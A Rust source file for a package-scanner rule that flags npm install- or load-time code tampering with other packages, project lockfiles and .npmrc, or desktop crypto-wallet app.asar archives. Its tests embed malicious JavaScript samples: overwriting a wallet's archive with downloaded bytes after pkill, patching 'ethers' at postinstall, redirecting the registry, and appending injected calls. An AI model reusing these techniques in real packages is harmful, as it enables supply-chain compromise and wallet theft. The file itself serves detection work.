//! `code/package-tamper`.

use super::{chain, describe, finding, flow_finding, flows};
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::flow::{SinkKind, SourceKind};
use crate::signal::{FileFacts, Kind, PackageFacts, Signal};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Install- or load-time code writes into another installed package or into the project being installed.
    ///
    /// ## What it detects
    /// A file write or delete in JavaScript that runs at install or when the package is loaded, whose target is the
    /// folder of another package (`path.dirname(require.resolve('ethers'))`, a path from `__dirname` that climbs
    /// out of the package into `node_modules`), or the project `npm install` runs in (`process.env.INIT_CWD`).
    /// Critical for another package at install, high at load; high for the project at install (low for its
    /// `.git/hooks`, the husky-style hook installers' business). Also, when the path is passed around (a finder
    /// walking up to `node_modules/ethers`, a `patch(file)` helper): install- or load-time JavaScript that builds a
    /// path into another package's folder (`'node_modules', 'ethers'`) and, in one function, reads a file and
    /// writes it back through the same path (patching): high, critical at install when the file also carries
    /// encoded code or downloads (the patch is fetched, not shipped). A write whose path ends in a project's registry configuration or lockfile (`.npmrc`,
    /// `.yarnrc`, `package-lock.json`, `npm-shrinkwrap.json`, `yarn.lock`, `pnpm-lock.yaml`, `bun.lock`) under a
    /// folder computed at run time (a root found by walking up from `INIT_CWD`, passed as a parameter), or a
    /// `~/.npmrc` write: critical at install, high at load. Wherever it runs: content read from a desktop wallet
    /// application's folder (Exodus, Atomic, Electrum) that value flow follows into a file write — the wallet's
    /// `app.asar` rebuilt with injected code, or its files staged for theft: critical. Whenever it runs (an API
    /// call is enough): a write to another desktop application's code — also when the archive path sits in a
    /// table (`/Applications/X.app/Contents/Resources/app.asar`, `%LOCALAPPDATA%\Programs\X\resources\app.asar`,
    /// names possibly base64-encoded) and is handed to a helper that copies, renames or repacks it (critical at
    /// install)  — an Electron `.asar` archive, a file
    /// inside a macOS bundle (`X.app/Contents/…`), Discord's `discord_desktop_core` — in a file that names where
    /// other applications are installed (`/Applications/X.app`, `%LOCALAPPDATA%\Programs`, a `.app` bundle
    /// name): high; critical when the same file downloads (the replacement comes from the network) or kills a
    /// process by name (`taskkill /IM`, `pkill`, `killall`: the running application must let go of its files).
    ///
    /// ## Why it matters
    /// ethers-provider2 and ethers-providerz (2025) looked harmless themselves: their install script patched the
    /// legitimate `ethers` package already in `node_modules` with a reverse shell, which stayed even after the
    /// malicious package was removed. Other packages plant files in the project (workflows, editor tasks), or
    /// point its `.npmrc` `registry=` and its lockfile's `resolved` URLs at a mirror they control and drop the
    /// `integrity` hashes (the lockfile-injection technique Snyk described in 2019), so every later install
    /// fetches substituted tarballs.
    ///
    /// ## Example
    /// `fs.writeFileSync(path.join(path.dirname(require.resolve('ethers')), 'providers.js'), patched)` in a
    /// `postinstall` file.
    ///
    /// ## Known false positives
    /// patch-package and similar tools patch `node_modules`, but the project runs them from its own scripts, not a
    /// dependency's install script. Installers that resolve their own folder by name (`require.resolve('esbuild')`
    /// in esbuild's `install.js`) write into themselves. Git hook installers (husky before v5) write `.git/hooks` of the installing
    /// project at install: low. Writes inside the package's own folder (`__dirname/../dist`) are not reported; nor
    /// is reading another package's `package.json` (a peer version check) next to writes of the package's own files.
    /// Electron packagers (`@electron/asar`, electron-builder) write `app.asar` files they build, from the
    /// project's own sources, not from a wallet application's folder, and name no installed application's folder.
    /// An Electron app's self-updater replaces its own archive under `process.resourcesPath` or
    /// `app.getAppPath()`: a file that builds its path from either is not reported by that arm.
    /// Lockfile repair tools (`npm-force-resolutions`, `yarn-deduplicate`) rewrite the project's lockfile when the user
    /// runs their `bin` or calls their API, which is neither install time nor load time: not reported.
    pub static PACKAGE_TAMPER = { id: "code/package-tamper", severity: Severity::Critical };
}

/// One finding per file with a write outside the package.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let imported = super::at_load::imported(p);
    let own = p
        .manifest
        .get("name")
        .and_then(|n| n.as_str())
        .unwrap_or("");
    let mut out = Vec::new();
    for f in p.files.iter().filter(|f| f.kind == FileKind::JavaScript) {
        let install = f.install_time;
        let loaded = imported.contains(f.path.as_str());
        // The most severe write of the file.
        let hit = f
            .of(Kind::OtherPackage)
            .filter(|s| install || loaded && super::at_load::at_load(&imported, f, s))
            .filter_map(|s| target(own, f, s).map(|(what, project)| (s, what, project)))
            .map(|(s, what, project)| {
                let hooks = what.contains(".git/hooks");
                let config = s.detail.starts_with("project config|");
                let severity = match (install, project, hooks) {
                    // The registry and lockfiles decide what every later install fetches.
                    _ if config && install => PACKAGE_TAMPER.default_severity,
                    _ if config => Severity::High,
                    (_, true, true) => Severity::Low,
                    (true, false, _) => PACKAGE_TAMPER.default_severity,
                    (false, false, _) | (true, true, false) => Severity::High,
                    (false, true, false) => Severity::Medium,
                };
                (severity, s, what)
            })
            .max_by_key(|(severity, s, _)| (*severity, std::cmp::Reverse(s.line)));
        let Some((severity, s, what)) = hit.or_else(|| patched(own, &imported, f)) else {
            continue;
        };
        let when = if install {
            "at install"
        } else {
            "when the package is loaded"
        };
        let msg = format!("writes into {what} {when}");
        out.push(finding(
            &PACKAGE_TAMPER,
            severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::FsRead, Kind::Network]),
        ));
    }
    out.extend(p.files.iter().filter_map(|f| other_application(p, f)));
    // Content read from a desktop wallet application's folder written to a file: the
    // application's own code patched (a clipper injected into its `app.asar`), or its wallet
    // staged for theft.
    if let Some(path) = flows(p, &[SourceKind::Credential], &[SinkKind::FileWrite])
        .find(|f| is_wallet_app(&f.from.what))
    {
        out.push(flow_finding(
            &PACKAGE_TAMPER,
            PACKAGE_TAMPER.default_severity,
            p,
            path,
            format!(
                "writes content read from the wallet application `{}`: {}",
                path.from.what,
                describe(path)
            ),
        ));
    }
    out
}

/// A write into another desktop application's code (an `.asar` archive, a macOS bundle's
/// contents, `discord_desktop_core`) in a file that names where applications are installed:
/// the 2025 pdf-to-office / nodejs-smtp Atomic and Exodus `app.asar` replacement, Discord
/// client injection. Reported whenever the code runs: one API call is enough.
fn other_application(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
    if f.kind != FileKind::JavaScript || super::is_bundle(f) {
        return None;
    }
    let text = f.text.as_deref().unwrap_or("");
    let direct = f
        .of(Kind::OtherPackage)
        .find(|s| s.detail.starts_with("application|"));
    // The archive path is built in a table and handed to a helper that copies, renames or
    // repacks it (`asar.createPackage(tmp, file)`, `fs.copyFileSync(file, file + '.bak')`): a
    // line that names an installed application's `resources/app.asar` and a write elsewhere.
    let staged = || {
        f.of(Kind::FsWrite)
            .next()
            .filter(|_| text.lines().any(installed_archive))
    };
    let hit = direct.or_else(staged)?;
    // An Electron app updating its own archive.
    if text.contains("resourcesPath") || text.contains("getAppPath") {
        return None;
    }
    let installed = [
        ".app/Contents",
        "/Applications",
        "'Programs'",
        "\"Programs\"",
        "\\Programs\\",
        "discord_desktop_core",
        ".app'",
        ".app\"",
    ];
    if !installed.iter().any(|m| text.contains(m)) {
        return None;
    }
    let download = f.has(Kind::Network);
    let kill = f.of(Kind::Spawn).any(|s| {
        let line = f.snippet(s.line).to_ascii_lowercase();
        line.contains("taskkill") || line.contains("pkill") || line.contains("killall")
    });
    let severity = if download || kill || direct.is_none() && f.install_time {
        PACKAGE_TAMPER.default_severity
    } else {
        Severity::High
    };
    let what = if direct.is_some() {
        hit.detail.trim_start_matches("application|")
    } else {
        "an installed application's app.asar"
    };
    let mut why = Vec::new();
    if download {
        why.push("the file downloads");
    }
    if kill {
        why.push("kills a running application");
    }
    let why = if why.is_empty() {
        String::new()
    } else {
        format!("; {}", why.join(" and "))
    };
    Some(finding(
        &PACKAGE_TAMPER,
        severity,
        f,
        hit,
        Locality::Function,
        format!("writes into another application's code (`{what}`){why}"),
        chain(
            p,
            f,
            hit,
            &[Kind::Network, Kind::Spawn, Kind::CredentialPath],
        ),
    ))
}

/// True for a line that names an installed application's Electron archive: `resources/app.asar`
/// (or `'resources', 'app.asar'`) next to where applications are installed (`/Applications/`,
/// `%LOCALAPPDATA%`, `Programs`, `/opt/`), not the project's own build output.
fn installed_archive(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    let archive = [
        "resources/app.asar",
        "resources\\app.asar",
        "'resources', 'app.asar'",
        "\"resources\", \"app.asar\"",
    ]
    .iter()
    .any(|a| l.contains(a));
    archive
        && [
            "/applications/",
            "localappdata",
            "'programs'",
            "\"programs\"",
            "/opt/",
            "program files",
        ]
        .iter()
        .any(|m| l.contains(m))
}

/// Desktop wallet applications whose install or data folders no package has reason to write.
fn is_wallet_app(store: &str) -> bool {
    const APPS: &[&str] = &[
        "exodus",
        "atomic",
        "electrum",
        "ledger live",
        "coinomi",
        "guarda",
    ];
    let s = store.to_ascii_lowercase();
    APPS.iter().any(|a| s.contains(a))
}

/// A read-modify-write in install- or load-time code of a file that names another package's
/// folder: (severity, the write, what it reaches).
fn patched<'f>(
    own: &str,
    imported: &std::collections::BTreeSet<&str>,
    f: &'f FileFacts,
) -> Option<(Severity, &'f Signal, String)> {
    let other = f.of(Kind::PackageDir).find(|s| s.detail != own)?;
    let loaded = imported.contains(f.path.as_str());
    // A path from `__dirname` that does not climb out of the package is the package's own file.
    let depth = f.path.matches('/').count();
    let own_file = |s: &Signal| {
        s.detail
            .strip_prefix("__dirname|")
            .and_then(|u| u.parse::<usize>().ok())
            .is_some_and(|ups| ups <= depth)
    };
    let write = f.of(Kind::ReadModifyWrite).find(|s| {
        !own_file(s) && (f.install_time || loaded && super::at_load::at_load(imported, f, s))
    })?;
    let encoded = f.has_any(&[Kind::HiddenCode, Kind::DecodeExec]);
    // What is spliced in comes from the network: the package ships no patch to review.
    let downloaded = f.has(Kind::Network);
    let severity = if (encoded || downloaded) && f.install_time {
        PACKAGE_TAMPER.default_severity
    } else {
        Severity::High
    };
    let extra = match (encoded, downloaded) {
        (true, _) => ", with encoded code",
        (false, true) => ", in a file that downloads",
        _ => "",
    };
    Some((
        severity,
        write,
        format!(
            "a file it patches in place (a path into the installed package `{}`, line {}{extra})",
            other.detail, other.line
        ),
    ))
}

/// What the write reaches and whether it is the installing project (not another package);
/// `None` when the path stays inside the package (`own` is its name).
fn target(own: &str, f: &FileFacts, s: &Signal) -> Option<(String, bool)> {
    let d = &s.detail;
    if let Some(name) = d.strip_prefix("package ") {
        // `require.resolve` of its own name is the package's own folder (esbuild's installer).
        return (name != own).then(|| (format!("the installed package `{name}`"), false));
    }
    if let Some(name) = d.strip_prefix("project config|") {
        return Some((
            format!("a project's registry configuration or lockfile (`{name}`)"),
            true,
        ));
    }
    if let Some(rest) = d.strip_prefix("install root|") {
        return Some((format!("the project being installed (`{rest}`)"), true));
    }
    let mut parts = d.strip_prefix("__dirname|")?.splitn(2, '|');
    let ups: usize = parts.next()?.parse().ok()?;
    let rest = parts.next().unwrap_or("");
    // `lib/x.js` sits one folder deep: one `..` is the package root, two is `node_modules`.
    let depth = f.path.matches('/').count();
    if ups <= depth {
        return None;
    }
    let first = rest.split('/').next().unwrap_or("");
    match ups - depth {
        1 if !first.is_empty() && first != "?" && !first.starts_with('.') => {
            Some((format!("the installed package `{first}` (`{rest}`)"), false))
        }
        1 => None,
        _ => Some((format!("the folder above the package (`{rest}`)"), true)),
    }
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{PJ, hits, scan, severity};
    use diligence_finding::Severity;

    /// A converter's API replaces a wallet application's `app.asar` with downloaded bytes after
    /// killing it: reported though nothing runs at install or load.
    #[test]
    fn positive_api_replaces_other_application_asar() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst { execSync } = require('child_process');\nconst res = path.join('/Applications', 'Wallet.app', 'Contents', 'Resources');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => ok(Buffer.concat(b))); })); }\nexports.convert = async (dir = res) => {\n  const asar = path.join(dir, 'app.asar');\n  const bytes = await get('https://example.com/rt.bin');\n  try { execSync('pkill -x Wallet', { stdio: 'ignore' }); } catch (e) {}\n  fs.writeFileSync(asar, bytes);\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("index.js".to_string(), 11)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/package-tamper"),
            Some(Severity::Critical)
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// An Electron packager writes the `app.asar` it builds into the project's output folder,
    /// and a self-updater replaces its own archive under `process.resourcesPath`.
    #[test]
    fn negative_packager_and_self_updater_asar() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "pack.js",
                "const fs = require('fs');\nconst path = require('path');\nexports.pack = (outDir, buf) => fs.writeFileSync(path.join(outDir, 'resources', 'app.asar'), buf);\n",
            ),
            (
                "update.js",
                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nexports.update = (url) => https.get(url, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => fs.writeFileSync(path.join(process.resourcesPath, 'app.asar'), Buffer.concat(b))); });\n// macOS: /Applications/Self.app/Contents/Resources\n",
            ),
        ]);
        assert!(hits(&s, "code/package-tamper").is_empty());
    }

    const PJ_POST: &str = "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node scripts/fix.js\"}}";

    #[test]
    fn positive_patch_another_package_at_install() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nconst dir = path.dirname(require.resolve('ethers'));\nconst file = path.join(dir, 'providers', 'provider-jsonrpc.js');\nconst src = fs.readFileSync(file, 'utf8');\nfs.writeFileSync(file, src.replace('x', 'y'));\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("scripts/fix.js".to_string(), 6)]
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    #[test]
    fn positive_sibling_by_dirname() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join(__dirname, '..', '..', 'ethers', 'lib', 'index.js'), 'x');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("scripts/fix.js".to_string(), 3)]
        );
    }

    /// A postinstall finds the installing project (walking up from `INIT_CWD`) in a helper and
    /// rewrites its `.npmrc` and lockfile through paths built from the returned folder.
    #[test]
    fn positive_project_registry_and_lockfile_rewritten_at_install() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');
const path = require('path');
function root() {
  let dir = process.env.INIT_CWD || process.cwd();
  while (!fs.existsSync(path.join(dir, 'package.json'))) dir = path.dirname(dir);
  return dir;
}
function npmrc(r) {
  const f = path.join(r, '.npmrc');
  fs.writeFileSync(f, 'registry=https://mirror.example.net/\\n');
}
function lock(r) {
  const f = `${r}/package-lock.json`;
  const data = JSON.parse(fs.readFileSync(f, 'utf8'));
  fs.writeFileSync(f, JSON.stringify(data));
}
const r = root();
npmrc(r);
lock(r);
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("scripts/fix.js".to_string(), 10)]
        );
        assert_eq!(s.findings[0].severity, Severity::Critical);
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A lockfile repair tool rewrites the lockfile of the folder its user passes, from its `bin`
    /// and its API: neither install time nor load time. Its own `.npmrc` next to the install
    /// script is its own file.
    #[test]
    fn negative_lockfile_tool_run_by_the_user() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"t","version":"1.0.0","main":"lib/index.js","bin":{"t":"bin/cli.js"},"scripts":{"postinstall":"node scripts/setup.js"}}"#,
            ),
            (
                "lib/index.js",
                "const fs = require('fs');\nconst path = require('path');\nexports.fix = function (root) {\n  const f = path.join(root, 'package-lock.json');\n  fs.writeFileSync(f, fs.readFileSync(f, 'utf8').trim() + '\\n');\n};\n",
            ),
            (
                "bin/cli.js",
                "#!/usr/bin/env node\nrequire('../lib').fix(process.argv[2] || process.cwd());\n",
            ),
            (
                "scripts/setup.js",
                "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join(__dirname, '.npmrc'), 'loglevel=warn\\n');\n",
            ),
        ]);
        assert!(
            hits(&s, "code/package-tamper").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A "font cache optimiser" rebuilds a desktop wallet's `app.asar` with code appended.
    #[test]
    fn positive_wallet_application_patched() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');
const os = require('os');
const path = require('path');
function targets() {
  const root = path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus');
  return fs.readdirSync(root).map((d) => path.join(root, d, 'resources', 'app.asar'));
}
function patch(file) {
  const buf = fs.readFileSync(file);
  fs.writeFileSync(file, Buffer.concat([buf, Buffer.from(';steal()')]));
}
exports.optimize = () => targets().forEach(patch);
",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("index.js".to_string(), 10)]
        );
        assert_eq!(s.findings[0].severity, Severity::Critical);
    }

    /// A postinstall "font registration" step lists wallet applications' archives (names
    /// base64-encoded) and repacks them through a helper: pdf-to-office (2025).
    #[test]
    fn positive_install_repacks_listed_application_archives() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"t","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
            (
                "setup.js",
                "const fs = require('fs');
const path = require('path');
const asar = require('@electron/asar');
const A = (s) => Buffer.from(s, 'base64').toString();
const list = ['/Applications/' + A('V2FsbGV0') + '.app/Contents/Resources/app.asar', path.join(process.env.LOCALAPPDATA || '', 'Programs', A('d2FsbGV0'), 'resources', 'app.asar')];
function patch(file) {
  if (!fs.existsSync(file)) return;
  fs.copyFileSync(file, file + '.bak');
  const tmp = fs.mkdtempSync('/tmp/x');
  asar.extractAll(file, tmp);
  fs.appendFileSync(path.join(tmp, 'app.js'), ';hook()');
  asar.createPackage(tmp, file);
}
list.forEach((f) => { try { patch(f); } catch (e) {} });
",
            ),
        ]);
        assert_eq!(
            severity(&s, "code/package-tamper"),
            Some(Severity::Critical),
            "{:?}",
            s.findings
        );
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    /// A macOS DMG builder links `/Applications` in the disk image and writes the app bundle's
    /// archive into its output folder.
    #[test]
    fn negative_dmg_builder_links_applications() {
        let s = scan(&[
            (
                "package.json",
                r#"{"name":"t","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            (
                "index.js",
                "const fs = require('fs');
const path = require('path');
const contents = [{ x: 130, y: 220 }, { x: 410, y: 220, type: 'link', path: '/Applications' }];
exports.build = function (outDir, name, buf) {
  const res = path.join(outDir, name + '.app', 'Contents', 'Resources');
  fs.mkdirSync(res, { recursive: true });
  fs.copyFileSync(buf, path.join(res, 'app.asar'));
  return contents;
};
",
            ),
            ("setup.js", "console.log('ok');\n"),
        ]);
        assert!(
            hits(&s, "code/package-tamper").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// An Electron packager packs the project's own folder into `app.asar`.
    #[test]
    fn negative_electron_packager_writes_its_own_asar() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');
const path = require('path');
exports.pack = function (src, out) {
  const files = fs.readdirSync(src).map((f) => fs.readFileSync(path.join(src, f)));
  fs.writeFileSync(path.join(out, 'resources', 'app.asar'), Buffer.concat(files));
};
",
            ),
        ]);
        assert!(
            hits(&s, "code/package-tamper").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// esbuild's installer resolves its own folder by name and writes there.
    #[test]
    fn negative_own_name() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"esb\",\"scripts\":{\"postinstall\":\"node install.js\"}}",
            ),
            (
                "install.js",
                "const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(path.dirname(require.resolve('esb')), 'npm-install');\nfs.writeFileSync(path.join(dir, 'package.json'), '{}');\n",
            ),
        ]);
        assert!(hits(&s, "code/package-tamper").is_empty());
    }

    /// Writing the package's own build output from a script folder, and a husky-style hook.
    #[test]
    fn negative_own_folder_and_git_hooks() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nfs.writeFileSync(path.join(__dirname, '..', 'dist', 'index.js'), 'x');\nconst root = process.env.INIT_CWD;\nfs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\\nnpx lint-staged\\n');\n",
            ),
        ]);
        let f: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/package-tamper")
            .collect();
        assert_eq!(f.len(), 1);
        assert_eq!((f[0].line, f[0].severity), (5, Severity::Low));
        assert_eq!(s.verdict, Verdict::Clean);
    }

    /// A postinstall that finds another installed package by walking up and patches its file
    /// through a helper: the path never appears next to the write.
    #[test]
    fn positive_finder_and_patch_helper() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nfunction find(d) {\n  for (let i = 0; i < 6; i++) { const c = path.join(d, 'node_modules', 'ethers'); if (fs.existsSync(c)) return c; d = path.dirname(d); }\n}\nfunction patch(file) {\n  const src = fs.readFileSync(file, 'utf8');\n  fs.writeFileSync(file, src + '\\n;extra()');\n}\nconst root = find(process.cwd());\nif (root) patch(path.join(root, 'lib', 'index.js'));\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("scripts/fix.js".to_string(), 8)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/package-tamper"),
            Some(Severity::High)
        );
    }

    /// The same finder and patch, with the patch downloaded at install: critical.
    #[test]
    fn positive_finder_and_downloaded_patch() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nfunction find(d) {\n  for (let i = 0; i < 6; i++) { const c = path.join(d, 'node_modules', 'ethers'); if (fs.existsSync(c)) return c; d = path.dirname(d); }\n}\nhttps.get('https://example.com/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => {\n  const file = path.join(find(process.cwd()), 'lib', 'index.js');\n  const src = fs.readFileSync(file, 'utf8');\n  fs.writeFileSync(file, src + b);\n}); });\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/package-tamper"),
            vec![("scripts/fix.js".to_string(), 10)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/package-tamper"),
            Some(Severity::Critical)
        );
    }

    /// A postinstall reading a peer's version and updating its own config file in place.
    #[test]
    fn negative_peer_version_check_and_own_config() {
        let s = scan(&[
            ("package.json", PJ_POST),
            (
                "scripts/fix.js",
                "const fs = require('fs');\nconst path = require('path');\nconst peer = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'node_modules', 'react', 'package.json'), 'utf8'));\nconsole.log(peer.version);\nfunction mark() {\n  const cfg = path.join(__dirname, '..', 'config.json');\n  const old = fs.readFileSync(cfg, 'utf8');\n  fs.writeFileSync(cfg, old.trim());\n}\nmark();\n",
            ),
        ]);
        assert!(hits(&s, "code/package-tamper").is_empty());
    }

    /// A library that writes into another package only inside an exported function.
    #[test]
    fn negative_exported_function() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const fs = require('fs');\nexports.patch = (src) => fs.writeFileSync(require.resolve('left-pad'), src);\n",
            ),
        ]);
        assert!(hits(&s, "code/package-tamper").is_empty());
    }
}
